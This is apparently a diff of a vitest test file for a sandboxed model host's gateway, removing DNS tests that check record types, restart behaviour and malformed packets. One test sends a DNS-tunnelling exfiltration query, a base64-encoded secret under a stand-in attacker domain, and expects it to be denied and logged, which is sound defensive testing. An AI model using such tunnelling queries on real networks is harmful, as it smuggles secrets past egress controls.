@@ -1,9 +1,7 @@
-import { createSocket } from "node:dgram";
 import { once } from "node:events";
 import { connect, createServer, type Server, type Socket } from "node:net";
 import { connect as tlsConnect } from "node:tls";
 import type { InferenceRequest } from "@creel/router";
-import { decode, encode } from "dns-packet";
 import { afterEach, describe, expect, it } from "vitest";
 import { ask, closed, speak } from "./support/client.ts";
 import { createUpstream, createWorld, portOf, type Upstream, type World } from "./support/world.ts";
@@ -228,54 +226,6 @@ describe("the model host", () => {
       ca: world.ca.certificatePem,
     });
     expect(answer.json).toMatchObject({ sandbox: "box", generation: 1 });
-  });
-});
-
-describe("names", () => {
-  async function query(bytes: Buffer): Promise<ReturnType<typeof decode> | null> {
-    const asker = createSocket("udp4");
-    asker.send(bytes, world.dnsPort, "127.0.0.1");
-    const reply = await Promise.race([
-      once(asker, "message"),
-      new Promise<null>((resolve) => setTimeout(() => resolve(null), 300)),
-    ]);
-    asker.close();
-    return reply === null ? null : decode(reply[0]);
-  }
-  const ofType = (type: string, name = "api.example.com") =>
-    query(encode({ type: "query", id: 1, questions: [{ type, class: "IN", name }] }));
-
-  it.each(["AAAA", "TXT", "ANY", "MX", "NS", "SRV", "CAA", "PTR"])("have no %s record", async (type) => {
-    world = await createWorld({ yaml: REST });
-    expect((await ofType(type))?.answers).toEqual([]);
-    expect(world.records).toEqual([]);
-  });
-
-  it("that no rule names carry nothing out, however they are spelt", async () => {
-    world = await createWorld({ yaml: REST });
-    expect((await ofType("TXT", "c2VjcmV0.tunnel.evil.com"))?.flags).toBe((0x8403 & 0x7fff) | 0x80);
-    expect(world.records[0]).toMatchObject({ kind: "dns", decision: "deny", host: "c2vjcmv0.tunnel.evil.com" });
-    await ofType("A", "c2VjcmV0.tunnel.evil.com");
-    expect(world.records).toHaveLength(1);
-    expect((await ofType("A", "API.Example.COM"))?.answers).toHaveLength(1);
-  });
-
-  it("keep their addresses across a restart of the gateway", async () => {
-    world = await createWorld({ yaml: REST });
-    const before = await world.addressOf("api.example.com");
-    await world.close();
-    world = await createWorld({ yaml: REST, lookup: async () => ["127.0.0.1"] });
-    const door = await world.door(before ?? "", 443);
-    const answer = await ask({ door, host: "api.example.com", ca: world.ca.certificatePem }).catch(() => null);
-    expect(world.records.at(-1)?.host ?? answer?.json.host).toBe("api.example.com");
-  });
-
-  it("asked for in malformed packets get no answer", async () => {
-    world = await createWorld({ yaml: REST });
-    expect(await query(Buffer.from([1, 2, 3]))).toBeNull();
-    expect(await query(Buffer.alloc(5000))).toBeNull();
-    const pointerLoop = Buffer.from("00010100000100000000000 0c00c00010001".replaceAll(" ", ""), "hex");
-    expect(await query(pointerLoop)).toBeNull();
   });
 });
 
